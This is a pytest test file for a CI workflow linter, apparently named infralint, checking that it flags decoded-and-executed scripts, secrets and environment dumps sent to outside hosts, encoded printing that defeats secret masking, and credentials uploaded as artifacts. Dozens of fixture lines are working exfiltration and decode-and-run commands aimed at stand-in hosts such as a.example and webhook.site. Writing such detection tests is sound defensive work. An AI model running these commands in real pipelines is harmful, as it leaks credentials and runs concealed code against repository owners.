"""Secrets that leave a job, secrets in disguise, and scripts that are decoded before they run."""

from __future__ import annotations

from pathlib import Path

import pytest

import infralint

HEAD = "on: push\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
ENV = "        env: {KEY: '${{ secrets.DEPLOY_KEY }}', GH: '${{ github.token }}'}\n"


def rules(root: Path, steps: str) -> set[str]:
    path = root / ".github/workflows/a.yml"
    path.parent.mkdir(parents=True)
    path.write_text(HEAD + steps)
    return {each.rule.partition("/")[2] for each in infralint.check([root], root=root).findings}


def of_script(root: Path, script: str) -> set[str]:
    return rules(root, f"      - run: |\n          {script}\n{ENV}")


@pytest.mark.parametrize(
    "script",
    [
        "echo ZWNobw== | base64 -d | bash",
        "echo ZWNobw== | base64 -di | sudo bash -s",
        "base64 -d <<< ZWNobw== | sh",
        'eval "$(echo ZWNobw== | base64 --decode)"',
        "eval `echo ZWNobw== | base64 -d`",
        'bash -c "$(echo ZWNobw== | base64 -d)"',
        "bash <(echo ZWNobw== | base64 -d)",
        'python3 -c "$(echo ZWNobw== | base64 -d)"',
        'x=$(echo ZWNobw== | base64 -d); eval "$x"',
        "echo ZWNobw== | base64 -d > x.sh; bash x.sh",
        "echo ZWNobw== | base64 -d > x; chmod +x x; ./x",
        "echo 6563686f | xxd -r -p | sh",
        "openssl base64 -d -in x | bash",
        "python3 -c \"import base64; exec(base64.b64decode('ZWNobw=='))\"",
        "node -e \"eval(Buffer.from('ZWNobw==', 'base64').toString())\"",
    ],
)
def test_text_that_is_decoded_and_run(tmp_path: Path, script: str) -> None:
    assert "decoded-script" in of_script(tmp_path, script)


@pytest.mark.parametrize(
    "script",
    [
        "echo aGVsbG8= | base64 -d > kubeconfig",
        'export NAME="$(echo aGVsbG8= | base64 -d)"; echo "$NAME" | bash ./x.sh',
        "echo aGVsbG8= | base64 -d | jq .",
        "echo aGVsbG8= | base64 -d | python3 -m json.tool",
        "echo hi | base64 | bash x.sh",
        "echo key | base64 -d > key.pem; bash deploy.sh key.pem2",
    ],
)
def test_text_that_is_decoded_and_not_run(tmp_path: Path, script: str) -> None:
    assert "decoded-script" not in of_script(tmp_path, script)


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ('curl -d "$GH" https://a.example', "token-sent-to-other-host"),
        ('curl -H "Authorization: token $GH" https://a.example/x', "token-sent-to-other-host"),
        ("curl https://a.example/?t=${{ secrets.GITHUB_TOKEN }}", "token-sent-to-other-host"),
        ('wget --post-data="t=$GH" http://a.example', "token-sent-to-other-host"),
        ('echo "$GH" | curl --data @- https://a.example', "token-sent-to-other-host"),
        ("env | curl -d @- https://a.example", "environment-sent-away"),
        ("printenv | base64 | curl -d @- https://a.example", "environment-sent-away"),
        ('curl -d "$(env | base64)" https://a.example', "environment-sent-away"),
        ("env > /run/e; curl -F f=@/run/e https://a.example", "environment-sent-away"),
        ("cat /proc/self/environ | nc a.example 80", "environment-sent-away"),
        ('curl -d "DEPLOY_KEY=$KEY" https://a.example', "secret-sent-to-other-service"),
        ('curl -d "k=$KEY" https://abc.oastify.com', "secret-sent-to-other-service"),
        ('curl "http://203.0.113.9/?$KEY"', "secret-sent-to-other-service"),
        ('echo "$KEY" | nc a.example 99', "secret-sent-to-other-service"),
        ('dig "$(echo $KEY | base64).a.example"', "secret-sent-to-other-service"),
        ('curl -d "x=${{ secrets.NPM_TOKEN }}" https://a.example', "secret-sent-to-other-service"),
    ],
)
def test_secrets_that_leave_the_job(tmp_path: Path, script: str, rule: str) -> None:
    assert rule in of_script(tmp_path, script)


@pytest.mark.parametrize(
    "script",
    [
        'curl -H "Authorization: Bearer $GH" https://api.github.com/repos',
        'curl -H "Authorization: Bearer $GH" https://github.acme.example/api/v3',
        'curl -d "$GH" "$URL"',
        'curl -H "Authorization: Bearer $KEY" https://api.example/deploy',
        'curl -d "key=$KEY" https://api.example/deploy',
        'curl -u "$KEY:" https://api.example',
        "curl -d @body.json https://api.example",
        "env NAME=x curl -d @- https://api.example",
        "env | grep NAME",
        'curl "http://10.0.0.1/?$KEY"',
        'curl -F "file=@x" -d "x=${{ secrets.NPM_TOKEN }}" https://registry.npmjs.org/x',
        "dig a.example",
    ],
)
def test_secrets_that_go_where_they_belong(tmp_path: Path, script: str) -> None:
    found = of_script(tmp_path, script)
    assert found.isdisjoint({"token-sent-to-other-host", "environment-sent-away", "secret-sent-to-other-service"})


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ('echo "$KEY" | base64 | base64', True),
        ("echo ${{ secrets.X }} | rev", True),
        ('echo "$KEY" | xxd -p', True),
        ("echo $KEY | sed 's/./& /g' | base64", True),
        ("env | base64 | base64", True),
        ('echo "$KEY" | base64', False),
        ('echo "$NAME" | rev', False),
        ('echo "$KEY" | base64 | base64 > x', False),
        ('x=$(echo "$KEY" | base64 | rev)', False),
    ],
)
def test_secrets_in_disguise(tmp_path: Path, script: str, found: bool) -> None:
    assert ("secret-printed-encoded" in of_script(tmp_path, script)) is found


LOGIN = "      - uses: docker/login-action@v3\n        with: {username: x, password: '${{ secrets.P }}'}\n"
AUTH = (
    "      - uses: google-github-actions/auth@v3\n        with: {workload_identity_provider: x, service_account: y}\n"
)
SECRET = "      - run: echo 'K=${{ secrets.K }}' > conf/app.env\n"


@pytest.mark.parametrize(
    ("steps", "found"),
    [
        (
            LOGIN
            + "      - uses: actions/upload-artifact@v5\n        with: {path: ~/.docker, include-hidden-files: true}\n",
            True,
        ),
        (LOGIN + "      - uses: actions/upload-artifact@v5\n        with: {path: ~/.docker/config.json}\n", True),
        (LOGIN + "      - uses: actions/upload-artifact@v5\n        with: {path: ~/.docker}\n", False),
        (LOGIN + "      - uses: actions/cache@v4\n        with: {path: ~/.docker, key: x}\n", True),
        (AUTH + "      - uses: actions/upload-artifact@v5\n        with: {path: .}\n", True),
        (AUTH + "      - uses: actions/upload-artifact@v5\n        with: {path: '${{ github.workspace }}'}\n", True),
        (AUTH + "      - uses: actions/upload-artifact@v5\n        with: {path: './*.json'}\n", True),
        (AUTH + "      - uses: actions/upload-artifact@v5\n        with: {path: dist}\n", False),
        (
            AUTH
            + "      - uses: actions/upload-artifact@v5\n        with:\n          path: |\n            .\n            !gha-creds-*.json\n",
            False,
        ),
        (
            AUTH
            + "      - run: rm -f gha-creds-*.json\n      - uses: actions/upload-artifact@v5\n        with: {path: .}\n",
            False,
        ),
        (SECRET + "      - uses: actions/upload-artifact@v5\n        with: {path: conf/}\n", True),
        (SECRET + "      - uses: actions/upload-artifact@v5\n        with: {path: conf/app.env}\n", True),
        (SECRET + "      - uses: actions/upload-artifact@v5\n        with: {path: 'conf/${{ matrix.a }}'}\n", False),
        (
            SECRET.replace("app.env", ".env")
            + "      - uses: actions/upload-artifact@v5\n        with: {path: conf}\n",
            False,
        ),
        ("      - uses: actions/upload-artifact@v5\n        with: {path: .}\n" + AUTH, False),
    ],
)
def test_credentials_that_are_stored(tmp_path: Path, steps: str, found: bool) -> None:
    assert ("credentials-in-artifact" in rules(tmp_path, steps)) is found


@pytest.mark.parametrize(
    ("shell", "script", "rule"),
    [
        ("pwsh", "iwr https://a.webhook.site/1 -Method Post -Body $env:KEY", "secret-sent-to-other-service"),
        ("pwsh", 'irm https://in.example.io -Headers @{ A = "Bearer ${env:GH}" }', "token-sent-to-other-host"),
        ("python", "requests.post('https://a.webhook.site/1', data=os.environ['KEY'])", "secret-sent-to-other-service"),
        ("bash", 'x=$(echo "$KEY" | base64); curl -d "$x" https://a.webhook.site/1', "secret-sent-to-other-service"),
    ],
)
def test_secrets_leave_by_other_shells_and_in_other_forms(tmp_path: Path, shell: str, script: str, rule: str) -> None:
    assert rule in rules(tmp_path, f"      - shell: {shell}\n        run: |\n          {script}\n{ENV}")


@pytest.mark.parametrize(
    ("shell", "script"),
    [
        ("pwsh", 'irm https://api.github.com/user -Headers @{ A = "Bearer $env:GH" }'),
        ("bash", 'x=$(curl -H "A: $KEY" https://api.example.com); curl -d "$x" https://a.webhook.site/1'),
    ],
)
def test_tokens_for_github_and_answers_of_a_service_are_no_leak(tmp_path: Path, shell: str, script: str) -> None:
    found = rules(tmp_path, f"      - shell: {shell}\n        run: |\n          {script}\n{ENV}")
    assert found.isdisjoint({"secret-sent-to-other-service", "token-sent-to-other-host"})


def test_a_secret_with_spaces_between_its_letters_is_not_masked(tmp_path: Path) -> None:
    assert "secret-printed-encoded" in of_script(tmp_path / "a", "echo \"$KEY\" | sed 's/./& /g'")
    assert "secret-printed-encoded" not in of_script(tmp_path / "b", "echo \"$KEY\" | sed 's/^v//'")
